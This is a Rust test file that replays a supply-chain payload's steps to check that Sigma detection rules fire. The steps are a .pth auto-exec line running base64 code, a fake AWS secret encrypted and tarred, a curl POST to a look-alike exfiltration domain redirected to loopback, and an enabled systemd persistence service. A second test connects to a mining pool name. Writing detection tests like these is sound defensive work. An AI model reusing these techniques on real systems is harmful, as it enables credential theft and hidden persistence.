//! The shipped Sigma rules on the LiteLLM/TeamPCP payload's moves, replayed by real processes:
//! a `.pth` file written into a virtual environment's site-packages that starts
//! `python -c "import base64; exec(base64.b64decode('aW1wb3J0...'))"` at every interpreter
//! start, the stolen files packed with `openssl` and `tar`, the archive POSTed with `curl` to
//! the look-alike domain (here resolved to a closed loopback port: nothing leaves), and the
//! systemd user service written and enabled from Python (with no user bus: it cannot start).
//! Each step raises the rule Nextron wrote for it; a near miss of each raises nothing.
//!
//! And a network_connection rule on a host name: a connection to a mining pool's name,
//! resolved by a DNS server in a network namespace, raises the rule that lists the pool.

use std::{fs, process::Command};

use monitor_tests::{
    ReservedPort, TIMEOUT,
    inference::{DnsServer, NetNs},
    path_str,
    rules::write_file,
    sigma::{Case, agent, expect_none, expect_sigma, run},
};

const TEAMPCP_PROCESS: &str = "36603778-030c-43c4-8cbb-cd3c1d1a80c7";
const TEAMPCP_FILE: &str = "81c0b7f5-81c9-435e-a291-bc32fc2b72cd";
const PTH: &str = "fb96c26c-9f85-4ae7-af0d-ed1ed1f1f5ce";
const PYTHON_BASE64: &str = "55e862a8-dd9c-4651-807a-f21fcad56716";
const CURL_UPLOAD: &str = "00b90cc1-17ec-402c-96ad-3a8117d7a582";

/// What the replayed payload decodes to: harmless, but its base64 has the same prefix and
/// the same `B64_SCRIPT = "a...` fragment as the real one, which is what the rule matches.
const PAYLOAD_B64: &str =
    "aW1wb3J0IHN5cyAgCkI2NF9TQ1JJUFQgPSAiYVcxd2IzSjBJSE41Y3c9PSIKcHJpbnQoInRlYW1wY3AtcmVwbGF5IikK";

/// The payload's later steps, as the decoded script ran them (as children of Python):
/// `stage.py DIR PORT [near-miss]`.
const STAGE: &str = r##"
import os, subprocess, sys
d, port, near = sys.argv[1], sys.argv[2], len(sys.argv) > 3
def run(*argv, **kw):
    subprocess.run(list(argv), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
names = ("backup.tar.gz", "data.bin", "key.bin") if near else ("tpcp.tar.gz", "payload.enc", "session.key.enc")
with open(os.path.join(d, "collected"), "w") as f:
    f.write("AWS_SECRET_ACCESS_KEY=not-a-secret\n")
run("openssl", "rand", "-out", os.path.join(d, "session.key"), "32")
run("openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-in", os.path.join(d, "collected"),
    "-out", os.path.join(d, names[1]), "-pass", "file:" + os.path.join(d, "session.key"))
run("openssl", "rand", "-out", os.path.join(d, names[2]), "256")
run("tar", "-czf", os.path.join(d, names[0]), "-C", d, names[1], names[2])
host = "models.example.org" if near else "models.litellm.cloud"
run("curl", "-s", "-m", "3", "-X", "POST", "https://" + host + "/",
    "-H", "Content-Type: application/octet-stream", "-H", "X-Filename: " + names[0],
    "--data-binary", "@" + os.path.join(d, names[0]),
    "--connect-to", host + ":443:127.0.0.1:" + port)
unit = "notes" if near else "sysmon"
for sub, name in ((".config/" + unit, unit + ".py"), (".config/systemd/user", unit + ".service")):
    os.makedirs(os.path.join(d, sub), exist_ok=True)
    with open(os.path.join(d, sub, name), "w") as f:
        f.write("# replay\n")
env = dict(os.environ, HOME=d, XDG_RUNTIME_DIR=os.path.join(d, "run"))
env.pop("DBUS_SESSION_BUS_ADDRESS", None)
run("systemctl", "--user", "enable", "--now", unit + ".service", env=env)
"##;

#[test]
fn the_teampcp_pth_payload_replayed_raises_each_of_its_rules() {
    let agent = agent();
    let case = Case::new("teampcp");
    let dir = case.dir.path();
    let venv = case.path("venv");
    run(
        &agent,
        &["python3", "-m", "venv", "--without-pip", &venv],
        dir,
    );
    let site = fs::read_dir(case.dir.join("venv/lib"))
        .expect("venv/lib")
        .next()
        .expect("lib/pythonX.Y")
        .expect("entry")
        .path()
        .join("site-packages");
    // The .pth, written by Python as pip would write it; its `import` line runs at start-up
    // (the payload's own child skips it: it is an interpreter start too).
    let pth = path_str(site.join("litellm_init.pth"));
    let line = format!(
        "import os, subprocess, sys; os.environ.get('REPLAYED') or subprocess.run(\
         [sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{PAYLOAD_B64}'))\"], \
         env=dict(os.environ, REPLAYED='1'))\n"
    );
    let writer = run(
        &agent,
        &[
            "python3",
            "-c",
            "import sys; open(sys.argv[1], 'w').write(sys.argv[2])",
            &pth,
            &line,
        ],
        dir,
    );
    let alert = expect_sigma(&agent, PTH, writer);
    assert_eq!(alert["event"]["path"], pth.as_str(), "{alert}");
    // Any interpreter start of the environment runs it.
    let start = run(&agent, &[&format!("{venv}/bin/python3"), "-c", "pass"], dir);
    for id in [TEAMPCP_PROCESS, PYTHON_BASE64] {
        let alert = expect_sigma(&agent, id, start);
        let argv = alert["event"]["argv"].to_string();
        assert!(argv.contains(PAYLOAD_B64), "{alert}");
    }
    // The payload's steps.
    let closed = ReservedPort::new();
    let port = closed.port().to_string();
    let stage = path_str(write_file(case.dir.join("stage.py"), STAGE));
    let pid = run(&agent, &["python3", &stage, &path_str(dir), &port], dir);
    let hits = |id: &str, exe: &str| {
        let alert = agent.wait_alert(TIMEOUT, &format!("sigma:{id} by {exe}"), |a| {
            a["rule"] == format!("sigma:{id}").as_str()
                && monitor_tests::rules::in_tree(a, pid)
                && a["event"]["exe"].as_str().is_some_and(|e| e.ends_with(exe))
        });
        expect_sigma(
            &agent,
            id,
            alert["event"]["pid"].as_u64().expect("pid") as u32,
        )
    };
    hits(TEAMPCP_PROCESS, "/tar");
    hits(TEAMPCP_PROCESS, "/curl");
    hits(CURL_UPLOAD, "/curl");
    let systemctl = hits(TEAMPCP_PROCESS, "/systemctl");
    assert_eq!(systemctl["ancestors"][0]["pid"], pid, "{systemctl}");
    for name in [
        ".config/sysmon/sysmon.py",
        ".config/systemd/user/sysmon.service",
    ] {
        let path = case.path(name);
        agent.wait_alert(TIMEOUT, &format!("sigma:{TEAMPCP_FILE} for {path}"), |a| {
            a["rule"] == format!("sigma:{TEAMPCP_FILE}").as_str()
                && a["event"]["path"] == path.as_str()
                && a["event"]["pid"] == pid
        });
    }
    // The same steps with other names: nothing of the TeamPCP rules.
    let near = Case::new("teampcp-near");
    let pid = run(
        &agent,
        &["python3", &stage, &path_str(near.dir.path()), &port, "near"],
        near.dir.path(),
    );
    expect_none(&agent, &near, TEAMPCP_PROCESS, pid);
    expect_none(&agent, &near, TEAMPCP_FILE, pid);
    let txt = run(
        &agent,
        &[
            "python3",
            "-c",
            "import sys; open(sys.argv[1], 'w').write('x')",
            &path_str(site.join("notes.txt")),
        ],
        dir,
    );
    expect_none(&agent, &case, PTH, txt);
}

#[test]
fn a_connection_to_a_mining_pool_s_name_raises_the_pool_rule() {
    let agent = agent();
    let ns = NetNs::new("sigma-pool").expect("network namespace");
    let _dns = DnsServer::start(
        &ns,
        &[
            ("pool.minexmr.com", "127.0.0.3"),
            ("pool.example.org", "127.0.0.4"),
        ],
    )
    .expect("DNS server");
    // The pool's address is on the namespace's loopback, where the script listens first.
    let connect = "import socket, sys\n\
                   ip = socket.gethostbyname(sys.argv[1])\n\
                   l = socket.socket(); l.bind((ip, 0)); l.listen()\n\
                   socket.create_connection((ip, l.getsockname()[1]), timeout=5).close()\n";
    let case = Case::new("pool");
    let spawn = |name: &str| {
        let mut cmd: Command = ns.command("python3");
        cmd.args(["-c", connect, name]);
        let mut child = agent.spawn(&mut cmd);
        child.finish_ok(TIMEOUT);
        child.pid()
    };
    let id = "a46c93b7-55ed-4d27-a41b-c259456c4746";
    let pid = spawn("pool.minexmr.com");
    let alert = expect_sigma(&agent, id, pid);
    assert_eq!(alert["event"]["remote_addr"], "127.0.0.3", "{alert}");
    let pid = spawn("pool.example.org");
    expect_none(&agent, &case, id, pid);
}
